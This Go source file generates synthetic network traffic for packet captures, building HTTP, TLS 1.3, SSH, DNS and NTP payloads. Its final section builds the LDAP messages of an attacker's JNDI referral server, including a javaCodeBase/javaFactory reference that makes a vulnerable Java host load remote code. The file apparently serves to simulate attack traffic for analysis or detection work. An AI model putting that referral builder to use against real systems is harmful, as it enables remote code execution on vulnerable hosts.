package simulate

import (
	"encoding/binary"
	"strconv"
	"strings"
)

// Application payloads that real dissectors (tshark) parse cleanly.

func httpRequest(method, target, host string, headers []string, bodyLen int) []byte {
	var b strings.Builder
	b.WriteString(method + " " + target + " HTTP/1.1\r\nHost: " + host + "\r\n")
	for _, h := range headers {
		b.WriteString(h + "\r\n")
	}
	if bodyLen > 0 {
		b.WriteString("Content-Type: application/json\r\nContent-Length: " + strconv.Itoa(bodyLen) + "\r\n")
	}
	b.WriteString("\r\n")
	return []byte(b.String())
}

// httpResponse returns the head of a response whose body is bodyLen
// opaque bytes.
func httpResponse(code int, server, ctype string, bodyLen int, date string) []byte {
	reason := map[int]string{200: "OK", 204: "No Content", 301: "Moved Permanently", 304: "Not Modified", 400: "Bad Request", 404: "Not Found", 407: "Proxy Authentication Required", 503: "Service Unavailable"}[code]
	var b strings.Builder
	b.WriteString("HTTP/1.1 " + strconv.Itoa(code) + " " + reason + "\r\nServer: " + server + "\r\nDate: " + date + "\r\n")
	if bodyLen > 0 || code == 200 {
		b.WriteString("Content-Type: " + ctype + "\r\n")
	}
	b.WriteString("Content-Length: " + strconv.Itoa(bodyLen) + "\r\nConnection: close\r\n\r\n")
	return []byte(b.String())
}

func ext(b []byte, typ uint16, body []byte) []byte {
	b = binary.BigEndian.AppendUint16(b, typ)
	b = binary.BigEndian.AppendUint16(b, uint16(len(body)))
	return append(b, body...)
}

func u16(v int) []byte { return []byte{byte(v >> 8), byte(v)} }

func record(typ byte, body []byte) []byte {
	b := []byte{typ, 3, 3, byte(len(body) >> 8), byte(len(body))}
	return append(b, body...)
}

func handshake(typ byte, body []byte) []byte {
	b := []byte{typ, byte(len(body) >> 16), byte(len(body) >> 8), byte(len(body))}
	return append(b, body...)
}

// tlsClientHello is a TLS 1.3 ClientHello record for sni.
func (s *sim) tlsClientHello(sni string) []byte {
	var ch []byte
	ch = append(ch, 3, 3)
	ch = append(ch, s.randBytes(32)...)
	ch = append(ch, 32)
	ch = append(ch, s.randBytes(32)...)
	suites := []int{0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030}
	ch = append(ch, u16(2*len(suites))...)
	for _, c := range suites {
		ch = append(ch, u16(c)...)
	}
	ch = append(ch, 1, 0)
	var exts []byte
	var sn []byte
	sn = append(sn, u16(len(sni)+3)...)
	sn = append(sn, 0)
	sn = append(sn, u16(len(sni))...)
	sn = append(sn, sni...)
	exts = ext(exts, 0x0000, sn)
	exts = ext(exts, 0x000a, []byte{0, 4, 0, 0x1d, 0, 0x17})
	exts = ext(exts, 0x000d, []byte{0, 6, 4, 3, 8, 4, 4, 1})
	exts = ext(exts, 0x002b, []byte{4, 3, 4, 3, 3})
	ks := append([]byte{0, 36, 0, 0x1d, 0, 32}, s.randBytes(32)...)
	exts = ext(exts, 0x0033, ks)
	exts = ext(exts, 0x002d, []byte{1, 1})
	ch = append(ch, u16(len(exts))...)
	ch = append(ch, exts...)
	return record(22, handshake(1, ch))
}

// tlsServerHello is a TLS 1.3 ServerHello and ChangeCipherSpec; what
// follows is application data.
func (s *sim) tlsServerHello() []byte {
	var sh []byte
	sh = append(sh, 3, 3)
	sh = append(sh, s.randBytes(32)...)
	sh = append(sh, 32)
	sh = append(sh, s.randBytes(32)...)
	sh = append(sh, 0x13, 0x01, 0)
	var exts []byte
	exts = ext(exts, 0x002b, []byte{3, 4})
	exts = ext(exts, 0x0033, append([]byte{0, 0x1d, 0, 32}, s.randBytes(32)...))
	sh = append(sh, u16(len(exts))...)
	sh = append(sh, exts...)
	out := record(22, handshake(2, sh))
	return append(out, record(20, []byte{1})...)
}

func (s *sim) randBytes(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(s.rng.Uint32())
	}
	return b
}

// SSH: identification strings, KEXINIT, ECDH and NEWKEYS in the clear;
// afterwards everything is encrypted (chacha20-poly1305, so even packet
// lengths are opaque).

func sshPacket(payload []byte) []byte {
	pad := 8 - (5+len(payload))%8
	if pad < 4 {
		pad += 8
	}
	b := binary.BigEndian.AppendUint32(nil, uint32(1+len(payload)+pad))
	b = append(b, byte(pad))
	b = append(b, payload...)
	return append(b, make([]byte, pad)...)
}

func sshString(b []byte, s []byte) []byte {
	b = binary.BigEndian.AppendUint32(b, uint32(len(s)))
	return append(b, s...)
}

func (s *sim) sshKexInit(server bool) []byte {
	p := []byte{20}
	p = append(p, s.randBytes(16)...)
	hostKey := "ssh-rsa,rsa-sha2-512,rsa-sha2-256,ssh-ed25519"
	if server {
		hostKey = "ssh-rsa,rsa-sha2-512,rsa-sha2-256"
	}
	lists := []string{
		"curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group16-sha512",
		hostKey,
		"chacha20-poly1305@openssh.com,aes128-ctr,aes256-gcm@openssh.com",
		"chacha20-poly1305@openssh.com,aes128-ctr,aes256-gcm@openssh.com",
		"umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-256",
		"umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-256",
		"none,zlib@openssh.com", "none,zlib@openssh.com", "", "",
	}
	for _, l := range lists {
		p = sshString(p, []byte(l))
	}
	p = append(p, 0, 0, 0, 0, 0)
	return sshPacket(p)
}

func (s *sim) sshKexClient() []byte {
	p := sshString([]byte{30}, s.randBytes(32))
	return sshPacket(p)
}

func (s *sim) sshKexServer() []byte {
	// An RSA host key: Wireshark decodes "ssh-rsa" signatures completely
	// (for rsa-sha2-* and ed25519 it reports a decoding warning).
	hk := sshString(nil, []byte("ssh-rsa"))
	hk = sshString(hk, []byte{1, 0, 1})
	hk = sshString(hk, append([]byte{0}, s.randBytes(256)...))
	sig := sshString(nil, []byte("ssh-rsa"))
	sig = sshString(sig, s.randBytes(256))
	p := sshString([]byte{31}, hk)
	p = sshString(p, s.randBytes(32))
	p = sshString(p, sig)
	out := sshPacket(p)
	return append(out, sshPacket([]byte{21})...)
}

var sshNewKeys = sshPacket([]byte{21})

// dnsQuery builds a recursive A query and its answer.
func (s *sim) dnsQuery(name string, ip [4]byte) (q, r []byte) {
	id := uint16(s.rng.Uint32())
	var qn []byte
	for _, l := range strings.Split(name, ".") {
		qn = append(qn, byte(len(l)))
		qn = append(qn, l...)
	}
	qn = append(qn, 0)
	q = binary.BigEndian.AppendUint16(nil, id)
	q = append(q, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0)
	q = append(q, qn...)
	q = append(q, 0, 1, 0, 1)
	r = binary.BigEndian.AppendUint16(nil, id)
	r = append(r, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0)
	r = append(r, qn...)
	r = append(r, 0, 1, 0, 1)
	r = append(r, 0xc0, 0x0c, 0, 1, 0, 1)
	r = binary.BigEndian.AppendUint32(r, uint32(60+s.rng.IntN(3000)))
	r = append(r, 0, 4)
	r = append(r, ip[:]...)
	return q, r
}

// ntpPair builds an NTPv4 client request and server reply at t.
func (s *sim) ntpPair(t int64, stratum byte) (req, resp []byte) {
	ntp := func(t int64) []byte {
		secs := uint64(t/1e9) + 2208988800
		frac := uint64(t%1e9) << 32 / 1e9
		return binary.BigEndian.AppendUint64(nil, secs<<32|frac)
	}
	req = make([]byte, 48)
	req[0] = 0x23 // LI 0, VN 4, mode 3
	copy(req[40:], ntp(t))
	resp = make([]byte, 48)
	resp[0] = 0x24 // mode 4
	resp[1] = stratum
	resp[2] = 6
	resp[3] = 0xe9
	binary.BigEndian.PutUint32(resp[4:], 0x00000200)
	binary.BigEndian.PutUint32(resp[8:], 0x00000400)
	copy(resp[12:], []byte{203, 0, 113, 123})
	copy(resp[16:], ntp(t-64*sec))
	copy(resp[24:], ntp(t))
	copy(resp[32:], ntp(t+200*us))
	copy(resp[40:], ntp(t+250*us))
	return req, resp
}

// BER/LDAP for the JNDI lookup against the attacker's LDAP referral server.
func ber(tag byte, body []byte) []byte {
	b := []byte{tag}
	switch n := len(body); {
	case n < 128:
		b = append(b, byte(n))
	case n < 256:
		b = append(b, 0x81, byte(n))
	default:
		b = append(b, 0x82, byte(n>>8), byte(n))
	}
	return append(b, body...)
}

func berInt(v int) []byte { return ber(0x02, []byte{byte(v)}) }

func ldapMsg(id int, op []byte) []byte { return ber(0x30, append(berInt(id), op...)) }

func ldapBind() []byte {
	return ldapMsg(1, ber(0x60, append(append(berInt(3), ber(0x04, nil)...), ber(0x80, nil)...)))
}

func ldapBindOK() []byte {
	return ldapMsg(1, ber(0x61, append(append(ber(0x0a, []byte{0}), ber(0x04, nil)...), ber(0x04, nil)...)))
}

func ldapSearch(base string) []byte {
	var op []byte
	op = append(op, ber(0x04, []byte(base))...)
	op = append(op, ber(0x0a, []byte{0})...)
	op = append(op, ber(0x0a, []byte{3})...)
	op = append(op, berInt(0)...)
	op = append(op, berInt(0)...)
	op = append(op, ber(0x01, []byte{0})...)
	op = append(op, ber(0x87, []byte("objectClass"))...)
	op = append(op, ber(0x30, nil)...)
	return ldapMsg(2, ber(0x63, op))
}

func ldapReferral(base, codebase string) []byte {
	attr := func(name, val string) []byte {
		return ber(0x30, append(ber(0x04, []byte(name)), ber(0x31, ber(0x04, []byte(val)))...))
	}
	var attrs []byte
	attrs = append(attrs, attr("javaClassName", "foo")...)
	attrs = append(attrs, attr("javaCodeBase", codebase)...)
	attrs = append(attrs, attr("objectClass", "javaNamingReference")...)
	attrs = append(attrs, attr("javaFactory", base)...)
	entry := ldapMsg(2, ber(0x64, append(ber(0x04, []byte(base)), ber(0x30, attrs)...)))
	done := ldapMsg(2, ber(0x65, append(append(ber(0x0a, []byte{0}), ber(0x04, nil)...), ber(0x04, nil)...)))
	return append(entry, done...)
}
